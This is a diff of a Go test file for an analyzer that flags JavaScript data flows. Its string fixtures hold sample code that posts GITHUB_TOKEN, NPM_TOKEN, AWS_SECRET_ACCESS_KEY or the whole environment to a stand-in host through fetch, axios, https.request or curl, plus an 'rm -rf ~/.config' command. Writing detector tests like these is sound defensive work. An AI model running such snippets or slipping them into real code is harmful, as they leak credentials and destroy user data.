@@ -7,7 +7,7 @@ import "testing"
 // TestJavaScriptFlows checks each way JavaScript moves data that the
 // analysis follows.
 func TestJavaScriptFlows(t *testing.T) {
-	cases := []struct{ name, code, want string }{
+	cases := []flowCase{
 		{"destructured env to fetch", "const { GITHUB_TOKEN } = process.env;\nfetch('https://c.example.net/t', {method: 'POST', body: GITHUB_TOKEN});\n", "exfil HTTP c.example.net GITHUB_TOKEN"},
 		{"whole env through JSON", "const axios = require('axios');\nconst body = JSON.stringify({...process.env});\naxios.post('https://c.example.net/e', body);\n", "exfil HTTP c.example.net whole"},
 		{"options object host", "const https = require('https');\nconst req = https.request({hostname: 'c.example.net', method: 'POST'});\nreq.end(process.env.NPM_TOKEN);\n", "exfil HTTP c.example.net NPM_TOKEN"},
@@ -23,14 +23,7 @@ func TestJavaScriptFlows(t *testing.T) {
 		{"command from a template", "const { execSync } = require('node:child_process');\nconst flag = '-rf';\nexecSync(`rm ${flag} ~/.config`);\n", "cmd rm -rf ~/.config"},
 		{"spawn words", "const { spawn } = require('child_process');\nconst url = 'https://c.example.net/u';\nspawn('curl', ['-d', process.env.AWS_SECRET_ACCESS_KEY, url]);\n", "exfil shell"},
 	}
-	for _, c := range cases {
-		t.Run(c.name, func(t *testing.T) {
-			got := flowsOf(t, JavaScript, c.code)
-			if !has(got, c.want) {
-				t.Errorf("flows %q; want one starting %q", got, c.want)
-			}
-		})
-	}
+	checkFlows(t, JavaScript, cases)
 }
 
 // TestAcrossUnits checks flows that need two files of one skill: a helper
